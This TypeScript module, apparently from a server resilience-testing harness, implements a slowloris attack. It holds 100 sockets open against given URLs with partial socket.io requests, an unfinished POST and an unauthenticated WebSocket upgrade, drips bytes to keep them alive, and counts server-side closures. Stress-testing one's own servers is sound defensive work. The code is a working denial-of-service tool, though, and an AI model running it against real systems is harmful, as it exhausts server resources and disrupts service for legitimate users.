import { setTimeout as wait } from 'node:timers/promises'
import { connect } from 'node:net'
import type { Attack } from '../attacker.ts'
import { createTally } from '../tally.ts'

const CONNECTIONS = 100

/** Opens connections and sends a byte at intervals: half a request, half a handshake, a WebSocket that never signs in. */
export const slowLoris: Attack = async ({ urls, forMs }) => {
  const tally = createTally()
  const beginnings = [
    'GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ',
    'POST /socket.io/?EIO=4&transport=polling&sid=none HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 100000\r\n\r\n4',
    'GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n',
    '',
  ]
  const sockets = Array.from({ length: CONNECTIONS }, (_, n) => {
    const { hostname, port } = new URL(String(urls[n % urls.length]))
    const socket = connect(Number(port), hostname, () => socket.write(beginnings[n % beginnings.length] ?? ''))
    socket.on('error', () => {})
    socket.once('close', () => tally.add('closed by the server'))
    return socket
  })
  const drip = setInterval(() => sockets.forEach((socket) => socket.writable && socket.write('a')), 100)
  await wait(forMs)
  clearInterval(drip)
  for (const socket of sockets) socket.removeAllListeners('close').destroy()
  return { opened: CONNECTIONS, ...tally.counts }
}
